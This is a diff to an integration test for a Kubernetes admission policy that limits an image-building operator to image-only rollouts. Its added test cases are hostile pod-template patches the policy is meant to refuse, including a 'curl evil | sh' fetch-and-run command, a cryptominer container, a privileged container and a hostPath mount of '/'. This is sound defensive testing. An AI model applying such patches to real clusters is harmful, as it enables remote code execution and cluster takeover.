@@ -2,8 +2,10 @@
 // the operator's own ServiceAccount token and the chart's RBAC: the builder Job the controller
 // renders is admitted; the same Job with a foreign image, a hostPath volume, a privileged or
 // escalating container, an extra capability, a host namespace, a ServiceAccount token, another
-// ServiceAccount, or placement on control-plane nodes is refused, each with its message. An
-// admin creating the same objects is not affected (the policy binds the operator's user only).
+// ServiceAccount, or placement on control-plane nodes is refused, each with its message. A
+// rollout patch that changes a workload's image is admitted, one that changes anything else of
+// its pod template is refused. An admin doing the same is not affected (the policies bind the
+// operator's user only).
 // Every create is a dry run (admission runs in full, nothing is stored).
 import type { V1Job } from "@kubernetes/client-node";
 import { parseAllDocuments } from "yaml";
@@ -113,9 +115,13 @@ describe("the chart's ValidatingAdmissionPolicy, with the operator's own token (
       "templates/admission-policy.yaml",
     ]);
     const objects = parseAllDocuments(stdout).map((d) => d.toJS() as { kind: string; metadata: { name: string } });
-    expect(objects.map((o) => o.kind)).toEqual(["ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding"]);
+    expect(objects.map((o) => `${o.kind}/${o.metadata.name}`).sort()).toEqual(
+      ["ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding"].flatMap((kind) =>
+        ["builders", "rollouts"].map((what) => `${kind}/${access.release}-nix-image-operator-${what}`),
+      ),
+    );
     await kubectl(["apply", "--server-side", "-f", "-"], { input: objects.map((o) => JSON.stringify(o)).join("\n") });
-    const name = objects[0]!.metadata.name;
+    const names = ["builders", "rollouts"].map((what) => `${access.release}-nix-image-operator-${what}`);
     try {
       const namespace = await testNamespace("vap");
       // The API server compiles the policy and starts enforcing it a moment after it is stored.
@@ -137,13 +143,61 @@ describe("the chart's ValidatingAdmissionPolicy, with the operator's own token (
         // An admin's identical create is not the policy's business.
         expect(await create(kubeClients().kc, job), `${what}, as admin`).toBe("");
       }
+
+      // Rollouts: the operator may change a workload's container images, nothing else.
+      const deployments = `/apis/apps/v1/namespaces/${namespace}/deployments`;
+      await kubeRequestJson(kubeClients().kc, "POST", deployments, {
+        body: {
+          apiVersion: "apps/v1",
+          kind: "Deployment",
+          metadata: { name: "web" },
+          spec: {
+            selector: { matchLabels: { app: "web" } },
+            template: { metadata: { labels: { app: "web" } }, spec: { containers: [{ name: "web", image: "registry.example.com/acme/web:1" }] } },
+          },
+        },
+      });
+      const patch = async (kc: KubeConfig, template: object): Promise<string> => {
+        try {
+          await kubeRequestJson(kc, "PATCH", `${deployments}/web`, {
+            body: { spec: { template: { spec: template } } },
+            contentType: "application/strategic-merge-patch+json",
+            query: { dryRun: "All" },
+          });
+          return "";
+        } catch (e) {
+          if (e instanceof KubeHttpError && (e.statusCode === 403 || e.statusCode === 422)) return e.message;
+          throw e;
+        }
+      };
+      const rolloutAttacks: Array<[string, object]> = [
+        ["a privileged container", { containers: [{ name: "web", securityContext: { privileged: true } }] }],
+        ["a hostPath volume", { volumes: [{ name: "host", hostPath: { path: "/" } }] }],
+        ["another command", { containers: [{ name: "web", command: ["/bin/sh", "-c", "curl evil | sh"] }] }],
+        ["an added container", { containers: [{ name: "web" }, { name: "miner", image: "evil/miner:1" }] }],
+        ["the node's network", { hostNetwork: true }],
+        ["another ServiceAccount", { serviceAccountName: "deployer" }],
+      ];
+      await waitFor("the rollout policy to be enforced", async () => ((await patch(access.kc, { hostNetwork: true })) !== "" ? true : undefined), {
+        timeoutMs: 30_000,
+      });
+      expect(
+        await patch(access.kc, { containers: [{ name: "web", image: `registry.example.com/acme/web@sha256:${"a".repeat(64)}` }] }),
+        "an image rollout",
+      ).toBe("");
+      for (const [what, template] of rolloutAttacks) {
+        const answer = await patch(access.kc, template);
+        refused[`rollout: ${what}`] = answer;
+        expect(answer, what).toMatch(/a rollout by the operator changes container images only/);
+        expect(await patch(kubeClients().kc, template), `${what}, as admin`).toBe("");
+      }
       process.stderr.write(
         `admission policy answers:\n${Object.entries(refused)
           .map(([w, m]) => `  ${w}: ${m}`)
           .join("\n")}\n`,
       );
     } finally {
-      await kubectl(["delete", "validatingadmissionpolicybinding,validatingadmissionpolicy", name, "--ignore-not-found"]);
+      for (const name of names) await kubectl(["delete", "validatingadmissionpolicybinding,validatingadmissionpolicy", name, "--ignore-not-found"]);
     }
   });
 
